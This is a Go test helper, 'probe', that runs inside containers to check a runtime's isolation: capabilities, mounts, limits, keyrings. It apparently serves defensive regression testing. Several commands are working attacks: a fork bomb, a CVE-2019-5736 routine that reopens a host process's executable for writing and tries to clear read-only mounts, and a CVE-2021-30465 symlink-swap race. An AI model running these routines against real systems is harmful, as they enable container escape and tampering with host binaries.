// Command probe runs inside test containers and reports what the container sees. It is built
// static (CGO_ENABLED=0) so that it is the whole test rootfs with busybox.
//
//	probe hostname | domainname | id | caps | mounts | fds | cwd | env | pid | ppid | tty
//	probe cat FILE | write FILE TEXT | ls DIR | stat PATH | readlink PATH
//	probe rlimit NAME | oomscore | nnp | seccomp | sleep SECONDS | exit CODE | mkdir DIR
//	probe sysctl NAME | alloc MIB | forkbomb MAX | spin SECONDS | signals | open PATH
//	probe status KEY... | keyring | winsize | statfs PATH | exec PATH
//	probe exewrite TARGET OUT SECONDS | swap DIR NAME LINKTARGET SECONDS
//	probe counter FILE | tcpcounter FILE
package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fail("usage: probe <command> [args]")
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "hostname":
		h, err := os.Hostname()
		check(err)
		fmt.Println(h)
	case "domainname":
		var u syscall.Utsname
		check(syscall.Uname(&u))
		fmt.Println(cstr(u.Domainname[:]))
	case "id":
		groups, _ := os.Getgroups()
		sort.Ints(groups)
		fmt.Printf("uid=%d gid=%d euid=%d groups=%v\n", os.Getuid(), os.Getgid(), os.Geteuid(), groups)
	case "caps":
		for _, l := range lines("/proc/self/status") {
			if strings.HasPrefix(l, "Cap") || strings.HasPrefix(l, "NoNewPrivs") || strings.HasPrefix(l, "Seccomp:") {
				fmt.Println(l)
			}
		}
	case "nnp":
		for _, l := range lines("/proc/self/status") {
			if strings.HasPrefix(l, "NoNewPrivs") {
				fmt.Println(strings.TrimSpace(strings.TrimPrefix(l, "NoNewPrivs:")))
			}
		}
	case "mounts":
		for _, l := range lines("/proc/self/mountinfo") {
			fmt.Println(l)
		}
	case "fds":
		ents, err := os.ReadDir("/proc/self/fd")
		check(err)
		for _, e := range ents {
			t, _ := os.Readlink("/proc/self/fd/" + e.Name())
			fmt.Printf("%s %s\n", e.Name(), t)
		}
	case "cwd":
		wd, err := os.Getwd()
		check(err)
		fmt.Println(wd)
	case "env":
		for _, e := range os.Environ() {
			fmt.Println(e)
		}
	case "pid":
		fmt.Println(os.Getpid())
	case "ppid":
		fmt.Println(os.Getppid())
	case "tty":
		t, err := os.Readlink("/proc/self/fd/0")
		check(err)
		fmt.Println(t)
	case "cat":
		need(args, 1)
		b, err := os.ReadFile(args[0])
		check(err)
		os.Stdout.Write(b)
	case "write":
		need(args, 2)
		check(os.WriteFile(args[0], []byte(args[1]), 0o644))
	case "ls":
		need(args, 1)
		ents, err := os.ReadDir(args[0])
		check(err)
		for _, e := range ents {
			fmt.Println(e.Name())
		}
	case "stat":
		need(args, 1)
		var st syscall.Stat_t
		check(syscall.Lstat(args[0], &st))
		fmt.Printf("mode=%o uid=%d gid=%d rdev=%d:%d\n", st.Mode, st.Uid, st.Gid, (st.Rdev>>8)&0xfff, (st.Rdev&0xff)|((st.Rdev>>12)&0xfff00))
	case "readlink":
		need(args, 1)
		t, err := os.Readlink(args[0])
		check(err)
		fmt.Println(t)
	case "rlimit":
		need(args, 1)
		for _, l := range lines("/proc/self/limits") {
			if strings.HasPrefix(strings.ToLower(l), strings.ToLower(args[0])) {
				fmt.Println(l)
			}
		}
	case "oomscore":
		b, err := os.ReadFile("/proc/self/oom_score_adj")
		check(err)
		os.Stdout.Write(b)
	case "sysctl":
		need(args, 1)
		b, err := os.ReadFile("/proc/sys/" + strings.ReplaceAll(args[0], ".", "/"))
		check(err)
		os.Stdout.Write(b)
	case "mkdir":
		need(args, 1)
		if err := syscall.Mkdir(args[0], 0o755); err != nil {
			fmt.Printf("errno=%d %v\n", err.(syscall.Errno), err)
			os.Exit(1)
		}
		fmt.Println("ok")
	case "sleep":
		need(args, 1)
		d, err := time.ParseDuration(args[0] + "s")
		check(err)
		time.Sleep(d)
	case "exit":
		need(args, 1)
		n, err := strconv.Atoi(args[0])
		check(err)
		os.Exit(n)
	case "alloc":
		need(args, 1)
		n, err := strconv.Atoi(args[0])
		check(err)
		var keep [][]byte
		for i := 0; i < n; i++ {
			b := make([]byte, 1<<20)
			for j := range b {
				b[j] = byte(j)
			}
			keep = append(keep, b)
		}
		fmt.Println("allocated", len(keep))
	case "forkbomb":
		// Start up to MAX children (/bin/sleep 300, left running) until fork fails; print
		// "forked N: <error>". The children are not waited for: they count against pids.max.
		need(args, 1)
		max, err := strconv.Atoi(args[0])
		check(err)
		n := 0
		var ferr error
		for ; n < max; n++ {
			if _, ferr = syscall.ForkExec("/bin/sleep", []string{"sleep", "300"}, &syscall.ProcAttr{}); ferr != nil {
				break
			}
		}
		fmt.Printf("forked %d: %v\n", n, ferr)
	case "open":
		// Open PATH read-only: "ok", or "errno=N <error>" and exit 1 (device cgroup tests).
		need(args, 1)
		fd, err := syscall.Open(args[0], syscall.O_RDONLY|syscall.O_NONBLOCK, 0)
		if err != nil {
			fmt.Printf("errno=%d %v\n", err.(syscall.Errno), err)
			os.Exit(1)
		}
		syscall.Close(fd)
		fmt.Println("ok")
	case "spin":
		need(args, 1)
		d, err := time.ParseDuration(args[0] + "s")
		check(err)
		end := time.Now().Add(d)
		n := 0
		for time.Now().Before(end) {
			n++
		}
		fmt.Println(n)
	case "signals":
		// Print each signal received, one a line, until SIGTERM.
		c := make(chan os.Signal, 8)
		signal.Notify(c, syscall.SIGUSR1, syscall.SIGUSR2, syscall.SIGHUP, syscall.SIGTERM)
		fmt.Println("ready")
		for s := range c {
			fmt.Println(s.(syscall.Signal).String())
			if s == syscall.SIGTERM {
				os.Exit(0)
			}
		}
	case "counter":
		// Write an increasing counter to a file every 100ms (checkpoint tests).
		need(args, 1)
		for i := 0; ; i++ {
			check(os.WriteFile(args[0], []byte(strconv.Itoa(i)), 0o644))
			time.Sleep(100 * time.Millisecond)
		}
	case "tcpcounter":
		// A counter that goes round an open loopback TCP connection every 100ms, the value
		// read back written to a file (checkpoint tests with --tcp-established).
		need(args, 1)
		// Plain TCP: Go 1.24+ listens with MPTCP where the kernel has it, which CRIU
		// cannot dump ("Unsupported proto 262").
		var lc net.ListenConfig
		lc.SetMultipathTCP(false)
		ln, err := lc.Listen(context.Background(), "tcp", "127.0.0.1:0")
		check(err)
		client, err := net.Dial("tcp", ln.Addr().String())
		check(err)
		server, err := ln.Accept()
		check(err)
		buf := make([]byte, 4)
		for i := uint32(0); ; i++ {
			binary.BigEndian.PutUint32(buf, i)
			_, err := client.Write(buf)
			check(err)
			_, err = io.ReadFull(server, buf)
			check(err)
			check(os.WriteFile(args[0], []byte(strconv.Itoa(int(binary.BigEndian.Uint32(buf)))), 0o644))
			time.Sleep(100 * time.Millisecond)
		}
	case "walk":
		need(args, 1)
		_ = filepath.Walk(args[0], func(p string, fi os.FileInfo, err error) error {
			if err == nil {
				fmt.Println(p)
			}
			return nil
		})
	case "status":
		// The named fields of /proc/self/status ("Umask", "Groups", "NoNewPrivs"), one a line.
		for _, l := range lines("/proc/self/status") {
			k, _, _ := strings.Cut(l, ":")
			for _, a := range args {
				if k == a {
					fmt.Println(l)
				}
			}
		}
	case "keyring":
		// The session keyring's serial and description (type;uid;gid;perm;name), read with
		// keyctl(2): busybox has no keyctl and /proc/keys is masked.
		serial, err := unix.KeyctlInt(unix.KEYCTL_GET_KEYRING_ID, unix.KEY_SPEC_SESSION_KEYRING, 0, 0, 0)
		check(err)
		buf := make([]byte, 256)
		n, err := unix.KeyctlBuffer(unix.KEYCTL_DESCRIBE, serial, buf, 0)
		check(err)
		fmt.Printf("%d %s\n", serial, strings.TrimRight(string(buf[:min(n, len(buf))]), "\x00"))
	case "winsize":
		ws, err := unix.IoctlGetWinsize(0, unix.TIOCGWINSZ)
		check(err)
		fmt.Printf("%d %d\n", ws.Row, ws.Col)
	case "statfs":
		// The mount flags of the filesystem holding PATH, as statfs(2) reports them.
		need(args, 1)
		var st unix.Statfs_t
		check(unix.Statfs(args[0], &st))
		fmt.Printf("type=%#x flags=%s size=%d\n", st.Type, mountFlags(st.Flags), st.Blocks*uint64(st.Bsize))
	case "exec":
		// Try to execute PATH; print the errno when the kernel refuses.
		need(args, 1)
		err := unix.Exec(args[0], args, nil)
		fmt.Printf("errno=%d %v\n", err.(unix.Errno), err)
		os.Exit(1)
	case "exewrite":
		need(args, 3)
		exeWrite(args[0], args[1], args[2])
	case "swap":
		need(args, 4)
		swap(args[0], args[1], args[2], args[3])
	default:
		if !extraCommand(os.Args[1], args) {
			fail("unknown command " + os.Args[1])
		}
	}
}

// mountFlags names the statfs(2) f_flags bits a test checks, comma-separated.
func mountFlags(f int64) string {
	names := []struct {
		bit  int64
		name string
	}{
		{unix.ST_RDONLY, "ro"}, {unix.ST_NOSUID, "nosuid"}, {unix.ST_NODEV, "nodev"},
		{unix.ST_NOEXEC, "noexec"}, {unix.ST_NOATIME, "noatime"}, {unix.ST_RELATIME, "relatime"},
		{0x2000, "nosymfollow"}, // ST_NOSYMFOLLOW, Linux 5.10
	}
	var out []string
	for _, n := range names {
		if f&n.bit != 0 {
			out = append(out, n.name)
		}
	}
	if len(out) == 0 {
		return "-"
	}
	return strings.Join(out, ",")
}

func lines(path string) []string {
	f, err := os.Open(path)
	check(err)
	defer f.Close()
	var out []string
	s := bufio.NewScanner(f)
	for s.Scan() {
		out = append(out, s.Text())
	}
	return out
}

func cstr(b []int8) string {
	var sb strings.Builder
	for _, c := range b {
		if c == 0 {
			break
		}
		sb.WriteByte(byte(c))
	}
	return sb.String()
}

func need(args []string, n int) {
	if len(args) < n {
		fail(fmt.Sprintf("%s needs %d argument(s)", os.Args[1], n))
	}
}

func check(err error) {
	if err != nil {
		fail(err.Error())
	}
}

func fail(msg string) {
	fmt.Fprintln(os.Stderr, "probe:", msg)
	os.Exit(2)
}

// exeWrite plays the CVE-2019-5736 attacker. TARGET is a path ("/proc/1/exe") or
// "cmdline=STR": the /proc/<pid>/exe of the first other process whose command line contains
// STR. It opens the exe O_WRONLY, then O_PATH, and after the process has exited (or execed)
// tries to reopen the O_PATH fd for writing and write a marker. Each step's outcome is a
// line "step: result" on stdout and in OUT. It gives up after SECONDS.
func exeWrite(target, out, secs string) {
	d, err := time.ParseDuration(secs + "s")
	check(err)
	deadline := time.Now().Add(d)
	var report []string
	say := func(step string, err error) {
		r := "ok"
		if err != nil {
			r = err.Error()
			if errno, ok := err.(syscall.Errno); ok {
				r = fmt.Sprintf("errno=%d %v", int(errno), errno)
			}
		}
		report = append(report, step+": "+r)
	}
	defer func() {
		s := strings.Join(report, "\n") + "\n"
		fmt.Print(s)
		_ = os.WriteFile(out, []byte(s), 0o644)
	}()
	path, pid := target, 0
	if want, ok := strings.CutPrefix(target, "cmdline="); ok {
		for path = ""; path == ""; {
			if time.Now().After(deadline) {
				report = append(report, "found: no process matching "+want)
				return
			}
			ents, _ := os.ReadDir("/proc")
			for _, e := range ents {
				n, err := strconv.Atoi(e.Name())
				if err != nil || n == os.Getpid() {
					continue
				}
				cl, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
				if err == nil && strings.Contains(string(cl), want) {
					path, pid = "/proc/"+e.Name()+"/exe", n
					break
				}
			}
		}
		report = append(report, "found: "+path)
	}
	fd, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
	say("open-wronly", err)
	if err == nil {
		_, err = syscall.Write(fd, []byte("husk-pwned"))
		say("write-direct", err)
		syscall.Close(fd)
	}
	pfd, err := syscall.Open(path, unix.O_PATH|syscall.O_CLOEXEC, 0)
	say("open-path", err)
	if err != nil {
		return
	}
	link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(pfd))
	report = append(report, "link: "+link)
	if pid > 0 {
		// Wait for the process to drop its image (exit, even as an unreaped zombie) so the
		// binary is no longer busy.
		for time.Now().Before(deadline) {
			if _, err := os.Readlink("/proc/" + strconv.Itoa(pid) + "/exe"); err != nil {
				break
			}
			time.Sleep(time.Millisecond)
		}
	}
	for {
		fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(pfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
		if err != syscall.ETXTBSY || time.Now().After(deadline) {
			break
		}
		time.Sleep(time.Millisecond)
	}
	say("reopen-wronly", err)
	if err == nil {
		_, err = syscall.Write(fd, []byte("husk-pwned"))
		say("write-reopened", err)
		syscall.Close(fd)
	}
	if err != syscall.EROFS {
		return
	}
	// A read-only mount in the way: with CAP_SYS_ADMIN, clone it and clear MOUNT_ATTR_RDONLY.
	// Or remount the mount itself read-write, both ways.
	say("setattr-rw", unix.MountSetattr(pfd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
	say("remount-rw", unix.Mount("", "/proc/self/fd/"+strconv.Itoa(pfd), "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(pfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
	say("reopen-remounted-wronly", err)
	if err == nil {
		_, err = syscall.Write(fd, []byte("husk-pwned"))
		say("write-remounted", err)
		syscall.Close(fd)
	}
	tfd, err := unix.OpenTree(pfd, "", unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC|unix.AT_EMPTY_PATH)
	say("open-tree-clone", err)
	if err != nil {
		return
	}
	err = unix.MountSetattr(tfd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY})
	say("clear-rdonly", err)
	fd, err = syscall.Open("/proc/self/fd/"+strconv.Itoa(tfd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
	say("reopen-clone-wronly", err)
	if err == nil {
		_, err = syscall.Write(fd, []byte("husk-pwned"))
		say("write-clone", err)
		syscall.Close(fd)
	}
}

// swap plays the CVE-2021-30465 / CVE-2024-45310 attacker on a shared volume: DIR/NAME is a
// directory and DIR/NAME.link a symlink to LINKTARGET, exchanged atomically (renameat2
// RENAME_EXCHANGE) in a loop for SECONDS, so another runtime resolving DIR/NAME sees either.
func swap(dir, name, target, secs string) {
	d, err := time.ParseDuration(secs + "s")
	check(err)
	a, b := filepath.Join(dir, name), filepath.Join(dir, name+".link")
	if err := os.Mkdir(a, 0o755); err != nil && !os.IsExist(err) {
		check(err)
	}
	_ = os.Remove(b)
	check(os.Symlink(target, b))
	n := 0
	fmt.Println("ready")
	for end := time.Now().Add(d); time.Now().Before(end); n++ {
		check(unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE))
	}
	fmt.Println("swaps", n)
}
